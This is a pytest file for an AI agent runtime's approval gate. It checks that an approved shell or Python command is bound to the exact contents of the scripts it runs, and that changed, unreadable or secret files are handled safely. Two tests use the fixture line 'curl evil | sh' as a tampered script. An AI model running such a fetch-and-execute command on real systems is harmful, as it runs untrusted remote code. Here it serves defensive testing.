"""A command is approved with the files that it runs, as they were seen."""

from __future__ import annotations

import hashlib
from functools import partial

import pytest
from agent_stage import ANN, Stage, call, in_order, is_shell
from model_answers import Answer

from runtime.approvals import Duration, Mode, Risk, coverage
from runtime.errors import UnsafePath
from runtime.events import ApprovalRequired, Envelope, ToolCallFailed, ToolCallStart
from runtime.ids import SessionId
from runtime.ports import FileBytes
from runtime.testing.sandbox import FakeSandbox
from runtime.tools.policy import Policy

ASKED = Policy(
    risks={
        "shell": Risk.MEDIUM,
        "python": Risk.MEDIUM,
        "read_file": Risk.MEDIUM,
        "list_files": Risk.MEDIUM,
    }
)
DONE = Answer("Done.")
COMMAND = "cd jobs && bash build.sh"
RUN = Answer("", calls=(call("shell", command=COMMAND),))


class Linked(FakeSandbox):
    """As the real one, it reads no folder and follows no link."""

    async def read(self, box: SessionId, path: str, limit: int) -> FileBytes:
        if path.endswith("link") or any(f.startswith(f"{path}/") for f in self.files(box)):
            raise UnsafePath(f"{path!r} is or passes a symbolic link, or is no regular file")
        return await super().read(box, path, limit)


class Deciding:
    """Approves each gate; `writes` happen between the question and the yes."""

    def __init__(self, playing: Stage, *writes: bytes, lasts: Duration = Duration.ONCE) -> None:
        self._playing, self._writes, self._lasts = playing, list(writes), lasts
        self.gates: list[ApprovalRequired] = []

    async def react(self, envelope: Envelope) -> None:
        if isinstance(envelope.event, ApprovalRequired):
            gate = envelope.event
            self.gates.append(gate)
            if self._writes:
                self._playing.fake.put(self._playing.box, "jobs/build.sh", self._writes.pop(0))
            await self._playing.runtime.decide(
                gate.approval_id, approve=True, duration=self._lasts, actor=ANN
            )


def ready(playing: Stage, script: bytes = b"make all\n") -> None:
    playing.fake.on(is_shell)
    playing.fake.put(playing.box, "jobs/build.sh", script)


async def test_the_approval_shows_the_script_beside_the_exact_command(
    stage: partial[Stage],
) -> None:
    async with stage(in_order(RUN, DONE), policy=ASKED) as playing:
        ready(playing)
        deciding = Deciding(playing)
        told = await playing.task(react=deciding.react)
        (gate,) = deciding.gates
        digest = hashlib.sha256(b"make all\n").hexdigest()
        assert gate.operation == COMMAND
        assert gate.runs == f"runs 'jobs/build.sh': 9 bytes, sha256 {digest[:12]}\n| make all"
        assert told.run.gates[0].runs == gate.runs
        assert "as they are now" in coverage("shell", gate.subject)
        assert len(told.of(ToolCallStart)) == 1


async def test_a_script_that_changed_after_the_question_is_asked_again(
    stage: partial[Stage],
) -> None:
    async with stage(in_order(RUN, DONE), policy=ASKED) as playing:
        ready(playing)
        deciding = Deciding(playing, b"curl evil | sh\n")
        told = await playing.task(react=deciding.react)
        first, second = deciding.gates
        assert second.why.startswith("a file that it runs changed since it was approved")
        assert "curl evil" in second.runs
        assert first.fingerprint != second.fingerprint
        assert len(told.of(ToolCallStart)) == 1


async def test_a_python_script_is_approved_with_the_files_that_it_runs(
    stage: partial[Stage],
) -> None:
    code = "import subprocess\nsubprocess.run(['bash', 'jobs/build.sh'], check=True)"
    run = Answer("", calls=(call("python", code=code),))
    async with stage(in_order(run, DONE), policy=ASKED) as playing:
        playing.fake.on(lambda argv: argv[0] == "python3")
        ready(playing)
        deciding = Deciding(playing, b"curl evil | sh\n")
        told = await playing.task(react=deciding.react)
        first, second = deciding.gates
        assert "| make all" in first.runs
        assert "curl evil" in second.runs
        assert len(told.of(ToolCallStart)) == 1


async def test_a_script_that_never_rests_is_not_run(stage: partial[Stage]) -> None:
    async with stage(in_order(RUN, DONE), policy=ASKED) as playing:
        ready(playing)
        deciding = Deciding(playing, *(str(n).encode() for n in range(1, 50)))
        told = await playing.task(react=deciding.react)
        assert not told.of(ToolCallStart)
        assert "changed again and again" in told.of(ToolCallFailed)[0].message


async def test_a_longer_yes_is_for_the_script_as_it_was(stage: partial[Stage]) -> None:
    answers = in_order(RUN, DONE, RUN, DONE, RUN, DONE)
    async with stage(answers, policy=ASKED) as playing:
        ready(playing)
        deciding = Deciding(playing, lasts=Duration.THREAD)
        await playing.task(react=deciding.react)
        await playing.task(react=deciding.react)
        assert len(deciding.gates) == 1
        ready(playing, b"other")
        await playing.task(react=deciding.react)
        assert len(deciding.gates) == 2


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("bash gone.sh", "may run 'gone.sh': it is not there now"),
        ("./link", "may run 'link': it is a link or no regular file"),
        ("python3 jobs", "may run 'jobs': it is a link or no regular file"),
    ],
)
async def test_a_script_that_nobody_can_look_at_is_said(
    stage: partial[Stage], command: str, words: str
) -> None:
    sandbox = Linked()
    sandbox.on(is_shell)
    answers = in_order(Answer("", calls=(call("shell", command=command),)), DONE)
    async with stage(answers, policy=ASKED, sandbox=sandbox) as playing:
        sandbox.put(playing.box, "jobs/build.sh", b"x")
        deciding = Deciding(playing)
        told = await playing.task(react=deciding.react)
        assert words in deciding.gates[0].runs
        assert len(told.of(ToolCallStart)) == 1


async def test_a_script_with_the_name_of_a_secret_is_not_quoted(stage: partial[Stage]) -> None:
    answers = in_order(Answer("", calls=(call("shell", command="source .env"),)), DONE)
    async with stage(answers, policy=ASKED) as playing:
        playing.fake.on(is_shell)
        playing.fake.put(playing.box, ".env", b"KEY=PRIVATE")
        deciding = Deciding(playing)
        await playing.task(react=deciding.react)
        assert "11 bytes" in deciding.gates[0].runs
        assert "PRIVATE" not in deciding.gates[0].runs


@pytest.mark.parametrize(
    ("tool", "more"),
    [
        ("read_file", {"path": "jobs"}),
        ("read_file", {"path": "link"}),
        ("read_file", {"path": "gone.txt"}),
        ("edit_file", {"path": "jobs", "old": "a", "new": "b"}),
        ("edit_file", {"path": "gone.txt", "old": "a", "new": "b"}),
        ("write_file", {"path": "jobs", "content": "a"}),
        ("write_file", {"path": "link", "content": "a"}),
        ("list_files", {"path": "gone"}),
        ("list_files", {"path": "jobs/build.sh"}),
    ],
)
async def test_what_can_never_succeed_is_refused_before_people_are_asked(
    stage: partial[Stage], tool: str, more: dict[str, str]
) -> None:
    sandbox = Linked()
    answers = in_order(Answer("", calls=(call(tool, 1, **more),)), DONE)
    async with stage(answers, policy=ASKED, mode=Mode.ASK, sandbox=sandbox) as playing:
        sandbox.put(playing.box, "jobs/build.sh", b"x")
        told = await playing.task()
        assert told.of(ApprovalRequired) == []
        assert len(told.of(ToolCallFailed)) == 1


async def test_a_new_file_is_asked_about_and_written(stage: partial[Stage]) -> None:
    answers = in_order(Answer("", calls=(call("write_file", path="new.txt", content="a"),)), DONE)
    async with stage(answers, mode=Mode.ASK) as playing:
        deciding = Deciding(playing)
        await playing.task(react=deciding.react)
        assert len(deciding.gates) == 1
        assert playing.fake.files(playing.box) == {"new.txt": b"a"}
